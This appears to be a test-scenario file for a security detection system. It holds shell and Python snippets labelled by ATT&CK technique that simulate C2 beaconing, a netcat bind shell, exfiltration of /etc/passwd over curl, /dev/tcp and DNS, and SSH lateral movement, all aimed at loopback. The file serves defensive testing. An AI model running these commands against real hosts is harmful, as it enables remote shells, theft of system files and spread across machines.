# Command and control (TA0011), exfiltration (TA0010), lateral movement (TA0008).

#@ id=c2-bad-user-agent kind=attack tactic=command_and_control technique=T1071.001 signal=exec title=HTTP request with a scripted/known-bad user agent
mkdir www; echo ok > www/c; serve_http www
curl -s -A 'python-requests/2.0 Sliver' http://127.0.0.1:$EVAL_PORT/c >/dev/null; curl -s -A 'Mozilla/5.0 (compatible; Nmap Scripting Engine)' http://127.0.0.1:$EVAL_PORT/c >/dev/null

#@ id=c2-beacon-http kind=attack tactic=command_and_control technique=T1071.001 signal=network title=Beaconing: fixed-interval HTTP check-ins to one port
mkdir www; echo ok > www/task; serve_http www
python3 - $EVAL_PORT <<'PY'
import sys, time, urllib.request
for _ in range(10):
    try: urllib.request.urlopen(f"http://127.0.0.1:{sys.argv[1]}/task", timeout=1).read()
    except Exception: pass
    time.sleep(0.5)
PY

#@ id=c2-beacon-tcp-unusual-port kind=attack tactic=command_and_control technique=T1571 signal=network title=Beaconing at a fixed interval to an unusual port
listen_tcp "$EVAL_PORT"
for i in $(seq 1 10); do (exec 3<>/dev/tcp/127.0.0.1/$EVAL_PORT; echo hb >&3) 2>/dev/null; sleep 0.5; done

#@ id=c2-udp-beacon kind=attack tactic=command_and_control technique=T1095 signal=network title=Raw UDP beacon at a fixed interval
python3 - $EVAL_PORT <<'PY'
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(10):
    s.sendto(b"hb", ("127.0.0.1", int(sys.argv[1]))); time.sleep(0.5)
PY

#@ id=c2-tunnel-ssh-socks kind=attack tactic=command_and_control technique=T1572 signal=exec title=SSH dynamic port forward (SOCKS tunnel) attempt
timeout 2 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N -D 127.0.0.1:1080 -p 1 root@127.0.0.1 2>/dev/null; true

#@ id=c2-listener-bind-shell kind=attack tactic=command_and_control technique=T1571 signal=network title=Bind shell listener (busybox nc -l -e)
ln -s /bin/busybox nc; timeout 1 ./nc -l -p $EVAL_PORT -e /bin/sh 2>/dev/null; true

#@ id=c2-tool-transfer kind=attack tactic=command_and_control technique=T1105 signal=network title=Ingress tool transfer with wget into /var/tmp
mkdir www; cp /bin/true www/kit; serve_http www
f=/var/tmp/.kit$$; at_exit "rm -f $f"; wget -q -O $f http://127.0.0.1:$EVAL_PORT/kit

#@ id=exfil-curl-post-archive kind=attack tactic=exfiltration technique=T1048.003 signal=exec title=Archive of /etc POSTed with curl -F
listen_tcp "$EVAL_PORT"
tar czf /tmp/.e$$.tgz -C / etc/hostname etc/passwd 2>/dev/null; at_exit "rm -f /tmp/.e$$.tgz"
curl -s -m 2 -F "f=@/tmp/.e$$.tgz" http://127.0.0.1:$EVAL_PORT/upload >/dev/null; true

#@ id=exfil-archive-encrypt-upload kind=attack tactic=exfiltration technique=T1560.001 signal=file title=Archive, encrypt with openssl, upload (sequence)
listen_tcp "$EVAL_PORT"
tar czf data.tgz -C / etc/passwd etc/group 2>/dev/null
openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in data.tgz -out data.bin
curl -s -m 2 --data-binary @data.bin http://127.0.0.1:$EVAL_PORT/u >/dev/null; true

#@ id=exfil-raw-socket-pipe kind=attack tactic=exfiltration technique=T1048 signal=pipe title=File piped to a raw socket with /dev/tcp
listen_tcp "$EVAL_PORT"
cat /etc/passwd > /dev/tcp/127.0.0.1/$EVAL_PORT

#@ id=exfil-dns-pattern kind=attack tactic=exfiltration technique=T1048.003 signal=dns title=Data exfiltrated in DNS query names (to a loopback resolver)
python3 - $EVAL_PORT <<'PY'
import base64, socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
data = base64.b32encode(b"root:x:0:0:root:/root:/bin/bash").decode().strip("=").lower()
for i in range(0, len(data), 30):
    labels = [data[i:i+30], "exfil", "example"]
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0" + struct.pack(">HH", 16, 1)
    s.sendto(q, ("127.0.0.1", int(sys.argv[1])))
PY

#@ id=lat-scp-tool kind=attack tactic=lateral_movement technique=T1570 signal=exec title=scp of a tool to another host (loopback port)
listen_tcp "$EVAL_PORT"
cp /bin/true tool; timeout 3 scp -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=1 -P $EVAL_PORT tool root@127.0.0.1:/tmp/ 2>/dev/null; true

#@ id=lat-ssh-fanout kind=attack tactic=lateral_movement technique=T1021.004 signal=network title=SSH to many hosts in a row (loopback addresses)
for h in $(seq 2 12); do timeout 1 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=1 root@127.0.0.$h true 2>/dev/null; done; true

#@ id=lat-ssh-key-from-tmp kind=attack tactic=lateral_movement technique=T1021.004 signal=exec title=ssh with a private key taken from /tmp
k=/tmp/.k$$; at_exit "rm -f $k $k.pub"; ssh-keygen -q -t ed25519 -N '' -f $k
timeout 2 ssh -i $k -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=1 -p 1 root@127.0.0.1 true 2>/dev/null; true

#@ id=lat-remote-copy-exec kind=attack tactic=lateral_movement technique=T1570 signal=exec title=Copied tool executed through ssh remote command (loopback port)
timeout 2 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=1 -p 1 root@127.0.0.1 'chmod +x /tmp/tool && /tmp/tool' 2>/dev/null; true
